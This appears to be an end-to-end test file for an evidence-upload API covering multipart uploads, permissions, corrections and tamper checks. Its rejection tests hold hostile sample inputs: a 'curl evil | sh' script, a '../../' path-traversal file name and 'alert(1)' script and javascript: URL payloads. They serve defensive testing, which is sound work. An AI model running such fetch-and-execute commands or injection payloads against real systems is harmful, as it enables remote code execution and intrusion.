// The evidence API over real HTTP: multipart uploads (several files, sniffed types, the size limit), JSON
// links, attestations and snapshots, API-token uploads from pipelines, lists filtered in SQL, downloads
// (bytes, headers, audit entry), who may attach evidence to which control, who may read it, corrections
// (supersedes), and an upload aborted by the client midway leaving nothing behind. Runs twice: with the
// blobs' bytes in PostgreSQL (the default) and with BLOB_STORE=filesystem.
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { closeSync, openSync, readdirSync, writeSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { Client } from 'pg';
import { startTestApp, TestApp } from '../support/app';
import { client, DEMO, login } from '../support/auth';

const LIMIT = 1024 * 1024;
let t: TestApp;
let db: Client;
const as: Record<string, string> = {};
let api: (who: string | null) => ReturnType<typeof client>;
let ownerId: string;

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const pdf = (size: number) => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(size - 9)]);
const png = () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2000)]);
const count = async (table: string) => Number((await db.query(`SELECT count(*) FROM ${table}`)).rows[0].count);
const stored = async () => ({
  evidence: await count('evidence'),
  blobs: await count('blobs'),
  chunks: await count('blob_chunks'),
});
const auth = (who: string): Record<string, string> =>
  who.startsWith('atk_') ? { authorization: `Bearer ${who}` } : { cookie: who };

const FIELDS = {
  title: 'Q4 access review: production database',
  controls: 'ENG-01, ACC-02',
  evidenceDate: '2026-11-20',
  periodStart: '2026-10-01',
  periodEnd: '2026-12-31',
};

/** POST /api/evidence as multipart/form-data (fields first, then the files), the way a browser or curl sends it. */
async function upload(
  who: string,
  fields: Record<string, string | string[]>,
  files: { bytes: Buffer; name: string; type?: string }[],
) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) for (const x of [v].flat()) form.append(k, x);
  for (const f of files)
    form.append('file', new Blob([f.bytes], { type: f.type ?? 'application/octet-stream' }), f.name);
  const res = await fetch(`${t.baseUrl}/api/evidence`, { method: 'POST', headers: auth(who), body: form });
  const text = await res.text();
  return { status: res.status, headers: res.headers, json: text ? JSON.parse(text) : undefined };
}

async function waitFor(what: string, check: () => boolean | Promise<boolean>): Promise<void> {
  for (let i = 0; i < 500; i++) {
    if (await check()) return;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`gave up waiting: ${what}`);
}

describe.each(['postgres', 'filesystem'] as const)('BLOB_STORE=%s', (store) => {
  beforeAll(async () => {
    t = await startTestApp({ env: { DEMO: '1', UPLOAD_LIMIT_BYTES: String(LIMIT), BLOB_STORE: store } });
    api = (who) => client(t.baseUrl, who);
    for (const [k, email] of Object.entries(DEMO)) as[k] = await login(t.baseUrl, email);
    ownerId = (await api(as.owner)('GET', '/api/me')).json.id;
    db = new Client({ connectionString: t.db.url });
    await db.connect();
  });
  afterAll(async () => {
    await db?.end();
    await t?.close();
  });

  describe('files (multipart)', () => {
    let item: any;
    const first = pdf(300_000);
    const second = png();

    it('a control owner uploads two files for their own controls: one item, both files, sniffed types, audited', async () => {
      const res = await upload(as.owner, FIELDS, [
        { bytes: first, name: 'รายงาน review "final".pdf', type: 'application/x-msdownload' }, // the client's type is ignored
        { bytes: second, name: '../../screenshot.png', type: 'text/plain' },
      ]);
      expect(res.status).toBe(201);
      item = res.json;
      expect(item).toMatchObject({
        kind: 'file',
        title: FIELDS.title,
        source: 'upload',
        submittedBy: ownerId,
        controls: ['ACC-02', 'ENG-01'],
        periodStart: '2026-10-01',
        periodEnd: '2026-12-31',
        evidenceDate: '2026-11-19T17:00:00.000Z',
        supersedes: null,
        supersededBy: null,
      });
      expect(item.files).toEqual([
        {
          n: 1,
          filename: 'รายงาน review "final".pdf',
          size: first.length,
          mediaType: 'application/pdf',
          sha256: sha256(first),
          download: `/api/evidence/${item.id}/download?file=1`,
        },
        {
          n: 2,
          filename: 'screenshot.png',
          size: second.length,
          mediaType: 'image/png',
          sha256: sha256(second),
          download: `/api/evidence/${item.id}/download?file=2`,
        },
      ]);
      const entries = (
        await db.query(`SELECT actor, canonical FROM audit_log WHERE action = 'evidence.create' AND subject_id = $1`, [
          item.id,
        ])
      ).rows;
      expect(entries).toHaveLength(1);
      expect(entries[0].actor).toBe(`user:${ownerId}`);
      expect(JSON.parse(entries[0].canonical).data).toEqual({
        kind: 'file',
        source: 'upload',
        controls: ['ENG-01', 'ACC-02'],
        sha256: [sha256(first), sha256(second)],
        supersedes: null,
      });
    });

    it('downloads each file: the same bytes, honest headers, and an audit entry', async () => {
      const before = Number(
        (
          await db.query(`SELECT count(*) FROM audit_log WHERE action = 'evidence.download' AND subject_id = $1`, [
            item.id,
          ])
        ).rows[0].count,
      );
      const res = await fetch(`${t.baseUrl}/api/evidence/${item.id}/download`, { headers: auth(as.owner2) }); // owners read all evidence
      expect(res.status).toBe(200);
      expect(Buffer.from(await res.arrayBuffer()).equals(first)).toBe(true);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      expect(res.headers.get('content-length')).toBe(String(first.length));
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="______ review _final_.pdf"; filename*=UTF-8''%E0%B8%A3%E0%B8%B2%E0%B8%A2%E0%B8%87%E0%B8%B2%E0%B8%99%20review%20%22final%22.pdf`,
      );
      expect(res.headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(first).digest('base64')}:`);
      const second2 = await fetch(`${t.baseUrl}/api/evidence/${item.id}/download?file=2`, {
        headers: auth(as.compliance),
      });
      expect(second2.headers.get('content-type')).toBe('image/png');
      expect(Buffer.from(await second2.arrayBuffer()).equals(second)).toBe(true);
      const entries = (
        await db.query(
          `SELECT actor, canonical FROM audit_log WHERE action = 'evidence.download' AND subject_id = $1 ORDER BY seq`,
          [item.id],
        )
      ).rows;
      expect(entries).toHaveLength(before + 2);
      expect(JSON.parse(entries[before].canonical).data).toEqual({ file: 1, sha256: sha256(first) });
      expect((await api(as.owner)('GET', `/api/evidence/${item.id}/download?file=3`)).status).toBe(404);
    });

    it('reads an item by id', async () => {
      const res = await api(as.privacy)('GET', `/api/evidence/${item.id}`);
      expect(res.status).toBe(200);
      expect(res.json).toEqual(item);
      expect((await api(as.owner)('GET', `/api/evidence/${randomUUID()}`)).status).toBe(404);
      expect((await api(as.owner)('GET', '/api/evidence/not-an-id')).json.errors).toEqual([
        { field: 'id', message: 'id must be an evidence id' },
      ]);
    });

    it('a pipeline posts test results with an API token (source api); controls may repeat as fields', async () => {
      const token = (await api(as.owner)('POST', '/api/tokens', { name: 'CI evidence upload' })).json.token;
      const junit = Buffer.from('<?xml version="1.0"?>\n<testsuites tests="412" failures="0"></testsuites>\n');
      const sbom = Buffer.from(JSON.stringify({ bomFormat: 'CycloneDX', specVersion: '1.5', components: [] }));
      const res = await upload(
        token,
        { ...FIELDS, title: 'CI #1234: tests and SBOM', controls: ['ENG-03', 'ENG-04'] },
        [
          { bytes: junit, name: 'junit.xml' },
          { bytes: sbom, name: 'bom.json' },
        ],
      );
      expect(res.status).toBe(201);
      expect(res.json).toMatchObject({ source: 'api', submittedBy: ownerId, controls: ['ENG-03', 'ENG-04'] });
      expect(res.json.files.map((f: any) => f.mediaType)).toEqual([
        'application/xml',
        'application/vnd.cyclonedx+json',
      ]);
    });

    it('refuses a file over UPLOAD_LIMIT_BYTES with 413 naming the field, storing nothing', async () => {
      const before = await stored();
      const res = await upload(as.owner, FIELDS, [{ bytes: pdf(LIMIT + 200_000), name: 'huge.pdf' }]);
      expect(res.status).toBe(413);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(res.json).toMatchObject({
        code: 'upload.too_large',
        errors: [{ field: 'file', message: `is larger than ${LIMIT} bytes` }],
      });
      expect(await stored()).toEqual(before);
    });

    it.each([
      [
        'a Windows executable named .pdf',
        Buffer.concat([Buffer.from('MZ'), randomBytes(5000)]),
        'invoice.pdf',
        /Windows\/DOS executable/,
      ],
      [
        'an ELF binary',
        Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(5000)]),
        'tool',
        /ELF executable/,
      ],
      ['a shell script', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'notes.txt', /interpreter line/],
      [
        'an unknown binary',
        Buffer.concat([Buffer.from([0x13, 0x37, 0x00]), randomBytes(5000)]),
        'data.bin',
        /not a recognised/,
      ],
      [
        'HTML (not allowed by default)',
        Buffer.from('<!doctype html><script>alert(1)</script>'),
        'report.txt',
        /text\/html, which is not allowed/,
      ],
    ])('refuses %s with 415 naming the field', async (_, bytes, name, message) => {
      const before = await stored();
      const res = await upload(as.owner, FIELDS, [
        { bytes: pdf(1000), name: 'fine.pdf' },
        { bytes, name, type: 'application/pdf' },
      ]);
      expect(res.status).toBe(415);
      expect(res.json).toMatchObject({
        code: 'upload.type_not_allowed',
        errors: [{ field: 'file', message: expect.stringMatching(message) }],
      });
      expect(await stored()).toEqual(before);
    });

    it('answers 400 naming the fields: missing, malformed, unknown, and no file', async () => {
      const missing = await upload(as.owner, { controls: 'ENG-01' }, [{ bytes: pdf(100), name: 'a.pdf' }]);
      expect(missing.status).toBe(400);
      expect(missing.json.errors.map((e: any) => e.field)).toEqual(
        expect.arrayContaining(['title', 'evidenceDate', 'periodStart', 'periodEnd']),
      );
      const bad = await upload(
        as.owner,
        { ...FIELDS, controls: 'ENG-01,nope-1', periodEnd: '2026-09-30', evidenceDate: '2099-01-01', colour: 'blue' },
        [{ bytes: pdf(100), name: 'a.pdf' }],
      );
      expect(bad.status).toBe(400);
      expect(bad.json.errors).toEqual(
        expect.arrayContaining([
          { field: 'colour', message: 'is not an allowed field' },
          { field: 'controls', message: 'each must be a control key like ENG-01' },
        ]),
      );
      const semantic = await upload(
        as.owner,
        { ...FIELDS, controls: 'ENG-01,ZZZ-99', periodEnd: '2026-09-30', evidenceDate: '2099-01-01' },
        [{ bytes: pdf(100), name: 'a.pdf' }],
      );
      expect(semantic.json.errors).toEqual([
        { field: 'periodEnd', message: 'must not be before periodStart' },
        { field: 'evidenceDate', message: 'must not be in the future' },
        { field: 'controls', message: 'no such control: ZZZ-99' },
      ]);
      const noFile = await upload(as.owner, FIELDS, []);
      expect(noFile.status).toBe(400);
      expect(noFile.json.errors).toEqual([{ field: 'file', message: 'at least one file part is required' }]);
      const form = new FormData();
      for (const [k, v] of Object.entries(FIELDS)) form.append(k, v);
      form.append('attachment', new Blob([pdf(100)]), 'a.pdf');
      const wrongField = (await (
        await fetch(`${t.baseUrl}/api/evidence`, { method: 'POST', headers: auth(as.owner), body: form })
      ).json()) as any;
      expect(wrongField.errors).toEqual(
        expect.arrayContaining([
          { field: 'attachment', message: 'is not an allowed file field: send files as "file"' },
        ]),
      );
    });

    it('an upload aborted by the client midway leaves no row, no blob, no chunk and no staged file', async () => {
      const before = await stored();
      const stagingDir = join(t.config.dataDir, 'tmp', 'uploads');
      const boundary = `----attest${randomUUID()}`;
      const head =
        Object.entries(FIELDS)
          .map(([k, v]) => `--${boundary}\r\ncontent-disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`)
          .join('') +
        `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="half.pdf"\r\ncontent-type: application/pdf\r\n\r\n`;
      const req = httpRequest(`${t.baseUrl}/api/evidence`, {
        method: 'POST',
        headers: { cookie: as.owner, 'content-type': `multipart/form-data; boundary=${boundary}` },
      });
      const outcome = new Promise<string>((resolve) => {
        req.on('error', (e) => resolve(`error: ${e.message}`));
        req.on('close', () => resolve('closed'));
        req.on('response', (res) => resolve(`response ${res.statusCode}`));
      });
      req.write(head);
      req.write(pdf(400_000));
      await waitFor('the server to stage the upload', () => readdirSync(stagingDir).length > 0);
      req.destroy(); // the client goes away mid-file
      expect(await outcome).not.toMatch(/^response/);
      await waitFor('the staged file to be removed', () => readdirSync(stagingDir).length === 0);
      expect(await stored()).toEqual(before);
      expect(
        Number((await db.query(`SELECT count(*) FROM evidence WHERE title = $1`, [FIELDS.title])).rows[0].count),
      ).toBe(1); // only the first test's item
      expect((await api(as.owner)('GET', '/api/evidence?limit=1')).status).toBe(200); // the server carries on
    });
  });

  describe('links, attestations and snapshots (JSON)', () => {
    const period = { periodStart: '2026-11-16', periodEnd: '2026-11-22' };

    it('a link', async () => {
      const res = await api(as.owner)('POST', '/api/evidence', {
        kind: 'link',
        title: 'Change board minutes',
        url: 'https://wiki.example.com/cab/2026-47',
        controls: ['ENG-05'],
        evidenceDate: '2026-11-21',
        ...period,
      });
      expect(res.status).toBe(201);
      expect(res.json).toMatchObject({
        kind: 'link',
        url: 'https://wiki.example.com/cab/2026-47',
        files: [],
        controls: ['ENG-05'],
        source: 'upload',
      });
      expect((await api(as.owner)('GET', `/api/evidence/${res.json.id}/download`)).status).toBe(404);
    });

    it('an attestation with checklist answers; it downloads as its JSON document', async () => {
      const res = await api(as.owner)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'No change to production access this week.',
        checklist: [{ question: 'Leavers removed?', answer: true }],
        controls: 'ENG-01,ENG-02',
        ...period,
      });
      expect(res.status).toBe(201);
      expect(res.json).toMatchObject({
        kind: 'attestation',
        source: 'attestation',
        title: 'Attestation: No change to production access this week.',
        checklist: [{ question: 'Leavers removed?', answer: true }],
      });
      const file = await fetch(`${t.baseUrl}/api/evidence/${res.json.id}/download`, { headers: auth(as.owner) });
      expect(file.headers.get('content-type')).toBe('application/json');
      expect(file.headers.get('content-disposition')).toMatch(
        /^attachment; filename="attestation-\d{4}-\d{2}-\d{2}\.json"/,
      );
      expect(await file.json()).toMatchObject({
        type: 'attestation',
        statement: 'No change to production access this week.',
        controls: ['ENG-01', 'ENG-02'],
        attestedBy: `user:${ownerId}`,
      });
    });

    it('a snapshot, stored as canonical JSON', async () => {
      const res = await api(as.compliance)('POST', '/api/evidence', {
        kind: 'snapshot',
        title: 'Scan report',
        data: { high: 0, critical: 0, tool: 'trivy' },
        controls: ['ENG-06'],
        evidenceDate: '2026-11-22T10:00:00+07:00',
        ...period,
      });
      expect(res.status).toBe(201);
      const file = await fetch(`${t.baseUrl}/api/evidence/${res.json.id}/download`, { headers: auth(as.compliance) });
      expect(await file.text()).toBe('{"critical":0,"high":0,"tool":"trivy"}');
    });

    it('answers 400 naming fields that do not fit the kind, or are missing', async () => {
      const res = await api(as.owner)('POST', '/api/evidence', {
        kind: 'link',
        title: 'x',
        url: 'https://x.example.com',
        statement: 'hi',
        controls: ['ENG-01'],
        evidenceDate: '2026-11-21',
        ...period,
      });
      expect(res.status).toBe(400);
      expect(res.json.errors).toEqual([{ field: 'statement', message: 'is only for kind attestation' }]);
      const missing = await api(as.owner)('POST', '/api/evidence', { kind: 'link', controls: [], ...period });
      expect(missing.json.errors.map((e: any) => e.field)).toEqual(
        expect.arrayContaining(['controls', 'title', 'evidenceDate', 'url']),
      );
      const bad = await api(as.owner)('POST', '/api/evidence', {
        kind: 'link',
        title: 'x',
        url: 'javascript:alert(1)',
        controls: ['ENG-01'],
        evidenceDate: '2026-11-21',
        ...period,
      });
      expect(bad.json.errors).toEqual([{ field: 'url', message: 'url must be an http:// or https:// URL' }]);
      const nested = await api(as.compliance)('POST', '/api/evidence', {
        kind: 'snapshot',
        title: 'x',
        data: JSON.parse('{"a":'.repeat(100) + '1' + '}'.repeat(100)),
        controls: ['ENG-01'],
        evidenceDate: '2026-11-21',
        ...period,
      });
      expect(nested.json.errors).toEqual([{ field: 'data', message: 'nests deeper than 64 levels' }]);
    });
  });

  describe('who may do what', () => {
    it("a control owner may not attach evidence to another department's control: 403 naming it", async () => {
      const before = await stored();
      const res = await upload(as.owner, { ...FIELDS, controls: 'ENG-01,CLS-01' }, [
        { bytes: pdf(5000), name: 'x.pdf' },
      ]);
      expect(res.status).toBe(403);
      expect(res.json).toMatchObject({
        code: 'evidence.not_your_control',
        errors: [{ field: 'controls', message: 'CLS-01 is not one of your controls' }],
      });
      expect(await stored()).toEqual(before);
      const json = await api(as.owner2)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'fine',
        controls: ['ENG-01'],
        periodStart: '2026-11-16',
        periodEnd: '2026-11-22',
      });
      expect(json.status).toBe(403);
      expect(json.json.code).toBe('evidence.not_your_control');
    });

    it('a control owner may attach evidence to a control assigned to them in another department', async () => {
      const ownerControl = await api(as.compliance)('PUT', '/api/controls/CLS-02/owner', { userId: ownerId });
      expect(ownerControl.status).toBe(200);
      const res = await api(as.owner)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'Reviewed.',
        controls: ['CLS-02'],
        periodStart: '2026-11-16',
        periodEnd: '2026-11-22',
      });
      expect(res.status).toBe(201);
    });

    it('the privacy officer attaches to privacy controls; compliance to any', async () => {
      expect(
        (
          await api(as.privacy)('POST', '/api/evidence', {
            kind: 'attestation',
            statement: 'ok',
            controls: ['PRV-01'],
            periodStart: '2026-11-16',
            periodEnd: '2026-11-22',
          })
        ).status,
      ).toBe(201);
      expect(
        (
          await api(as.privacy)('POST', '/api/evidence', {
            kind: 'attestation',
            statement: 'ok',
            controls: ['ENG-01'],
            periodStart: '2026-11-16',
            periodEnd: '2026-11-22',
          })
        ).status,
      ).toBe(403);
      expect(
        (
          await api(as.compliance)('POST', '/api/evidence', {
            kind: 'attestation',
            statement: 'ok',
            controls: ['CLS-01', 'ENG-01'],
            periodStart: '2026-11-16',
            periodEnd: '2026-11-22',
          })
        ).status,
      ).toBe(201);
    });

    // Auditors read evidence only inside an engagement (the demo auditor holds one): test/e2e/engagements-http.
    it('viewers read no evidence: 403 on the list, an id and a download; auditors and viewers upload none', async () => {
      const id = (await api(as.owner)('GET', '/api/evidence?limit=1')).json.items[0].id;
      expect((await upload(as.auditor, FIELDS, [{ bytes: pdf(100), name: 'a.pdf' }])).status).toBe(403);
      for (const who of [as.viewer]) {
        expect((await api(who)('GET', '/api/evidence')).status).toBe(403);
        expect((await api(who)('GET', `/api/evidence/${id}`)).status).toBe(403);
        expect((await api(who)('GET', `/api/evidence/${id}/download`)).status).toBe(403);
        expect((await upload(who, FIELDS, [{ bytes: pdf(100), name: 'a.pdf' }])).status).toBe(403);
      }
    });

    it('nobody changes or deletes evidence: there is no route for it', async () => {
      const id = (await api(as.admin)('GET', '/api/evidence?limit=1')).json.items[0].id;
      for (const method of ['PUT', 'PATCH', 'DELETE'])
        expect(
          (await api(as.admin)(method, `/api/evidence/${id}`, method === 'DELETE' ? undefined : { title: 'x' })).status,
        ).toBe(404);
    });
  });

  describe('lists', () => {
    it('filters by control, kind, date, submitter and current, in SQL, paged', async () => {
      const eng01 = await api(as.owner2)('GET', '/api/evidence?control=ENG-01');
      expect(eng01.status).toBe(200);
      expect(eng01.json.total).toBeGreaterThanOrEqual(3);
      const ids = new Set<string>();
      for (const e of eng01.json.items) {
        expect(e.controls).toContain('ENG-01');
        ids.add(e.id);
      }
      const files = await api(as.owner)('GET', '/api/evidence?control=ENG-01&kind=file');
      expect(files.json.items.every((e: any) => e.kind === 'file')).toBe(true);
      expect(files.json.total).toBe(1);
      const mine = await api(as.owner)('GET', '/api/evidence?submitter=me&limit=200');
      expect(mine.json.items.every((e: any) => e.submittedBy === ownerId)).toBe(true);
      expect((await api(as.compliance)('GET', '/api/evidence?submitter=me&kind=file')).json.total).toBe(0);
      const nov = await api(as.owner)('GET', '/api/evidence?from=2026-11-20&to=2026-11-20&kind=file');
      expect(nov.json.items.map((e: any) => e.evidenceDate)).toEqual(
        nov.json.items.map(() => '2026-11-19T17:00:00.000Z'),
      );
      expect(nov.json.total).toBe(2);
      const paged = await api(as.owner)('GET', '/api/evidence?limit=2&offset=1');
      expect(paged.json).toMatchObject({ limit: 2, offset: 1 });
      expect(paged.json.items).toHaveLength(2);
      expect((await api(as.owner)('GET', '/api/evidence?control=XYZ-99')).json).toEqual({
        items: [],
        total: 0,
        limit: 50,
        offset: 0,
      });
      expect((await api(as.owner)('GET', '/api/evidence?from=2026-13-01')).json.errors).toEqual([
        { field: 'from', message: expect.any(String) },
      ]);
      expect((await api(as.owner)('GET', '/api/evidence?submitter=someone')).status).toBe(400);
    });
  });

  describe('corrections (supersedes)', () => {
    it('a correction supersedes the old item, which stays; a second correction of it is a 409; lists can leave superseded items out', async () => {
      const v1 = await upload(as.owner, { ...FIELDS, title: 'Firewall review v1', controls: 'ENG-07' }, [
        { bytes: pdf(2000), name: 'fw.pdf' },
      ]);
      const v2 = await upload(
        as.owner,
        { ...FIELDS, title: 'Firewall review v2', controls: 'ENG-07', supersedes: v1.json.id },
        [{ bytes: pdf(2000), name: 'fw-fixed.pdf' }],
      );
      expect(v2.status).toBe(201);
      expect(v2.json.supersedes).toBe(v1.json.id);
      const old = await api(as.owner)('GET', `/api/evidence/${v1.json.id}`);
      expect(old.json).toMatchObject({ title: 'Firewall review v1', supersededBy: v2.json.id });
      const again = await api(as.owner)('POST', '/api/evidence', {
        kind: 'link',
        title: 'v2b',
        url: 'https://x.example.com',
        controls: ['ENG-07'],
        evidenceDate: '2026-11-21',
        periodStart: '2026-10-01',
        periodEnd: '2026-12-31',
        supersedes: v1.json.id,
      });
      expect(again.status).toBe(409);
      expect(again.json).toMatchObject({
        code: 'evidence.already_superseded',
        errors: [{ field: 'supersedes', message: 'is already superseded' }],
      });
      const v3 = await api(as.owner)('POST', '/api/evidence', {
        kind: 'link',
        title: 'v3',
        url: 'https://x.example.com',
        controls: ['ENG-07'],
        evidenceDate: '2026-11-21',
        periodStart: '2026-10-01',
        periodEnd: '2026-12-31',
        supersedes: v2.json.id,
      });
      expect(v3.status).toBe(201);
      const all = await api(as.owner)('GET', '/api/evidence?control=ENG-07');
      expect(all.json.items.map((e: any) => e.title)).toEqual(['v3', 'Firewall review v2', 'Firewall review v1']);
      const current = await api(as.owner)('GET', '/api/evidence?control=ENG-07&current=true');
      expect(current.json.items.map((e: any) => e.title)).toEqual(['v3']);
      expect((await api(as.owner)('GET', '/api/evidence?control=ENG-07&current=1')).json.total).toBe(1);
      expect((await api(as.owner)('GET', '/api/evidence?control=ENG-07&current=0')).json.total).toBe(3);
      const bad = await api(as.owner)('GET', '/api/evidence?control=ENG-07&current=yes');
      expect(bad.status).toBe(400);
      expect(bad.json.errors.map((e: { field: string }) => e.field)).toEqual(['current']);
    });

    it("an owner may not supersede (hide) evidence of another department's control, nor name an unknown item", async () => {
      const clinical = await api(as.owner2)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'Clinical review done.',
        controls: ['CLS-03'],
        periodStart: '2026-11-16',
        periodEnd: '2026-11-22',
      });
      expect(clinical.status).toBe(201);
      const res = await api(as.owner)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'x',
        controls: ['ENG-01'],
        periodStart: '2026-11-16',
        periodEnd: '2026-11-22',
        supersedes: clinical.json.id,
      });
      expect(res.status).toBe(403);
      expect(res.json.errors).toEqual([{ field: 'controls', message: 'CLS-03 is not one of your controls' }]);
      const unknown = await api(as.owner)('POST', '/api/evidence', {
        kind: 'attestation',
        statement: 'x',
        controls: ['ENG-01'],
        periodStart: '2026-11-16',
        periodEnd: '2026-11-22',
        supersedes: randomUUID(),
      });
      expect(unknown.status).toBe(400);
      expect(unknown.json.errors).toEqual([{ field: 'supersedes', message: 'is not an evidence item' }]);
    });
  });

  describe('stored bytes', () => {
    it('never serves bytes changed behind the application', async () => {
      const bytes = pdf(LIMIT - 1000);
      const sha = sha256(bytes);
      const res = await upload(as.owner, FIELDS, [{ bytes, name: 'tampered.pdf' }]);
      expect(res.status).toBe(201);
      expect((await db.query(`SELECT store FROM blobs WHERE sha256 = $1`, [sha])).rows).toEqual([{ store }]);
      if (store === 'postgres') {
        await db.query('BEGIN');
        await db.query('ALTER TABLE blob_chunks DISABLE TRIGGER USER');
        await db.query(
          `UPDATE blob_chunks SET data = set_byte(data, 99, get_byte(data, 99) # 255) WHERE sha256 = $1 AND n = 0`,
          [sha],
        );
        await db.query('ALTER TABLE blob_chunks ENABLE TRIGGER USER');
        await db.query('COMMIT');
      } else {
        const fd = openSync(join(t.config.blobDir, sha.slice(0, 2), sha.slice(2, 4), sha), 'r+');
        writeSync(fd, Buffer.from([bytes[99] ^ 0xff]), 0, 1, 99);
        closeSync(fd);
      }
      // One chunk: the mismatch is found before the first byte is sent, so the answer is a 500, not the bytes.
      const download = await fetch(`${t.baseUrl}/api/evidence/${res.json.id}/download`, { headers: auth(as.owner) });
      expect(download.status).toBe(500);
      expect(download.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(((await download.json()) as any).code).toBe('internal');
    });
  });

  it('documents the evidence routes in OpenAPI, with both request bodies', async () => {
    const doc = (await (await fetch(`${t.baseUrl}/api/openapi.json`)).json()) as any;
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining(['/api/evidence', '/api/evidence/{id}', '/api/evidence/{id}/download']),
    );
    expect(Object.keys(doc.paths['/api/evidence'].post.requestBody.content)).toEqual([
      'multipart/form-data',
      'application/json',
    ]);
  });
});
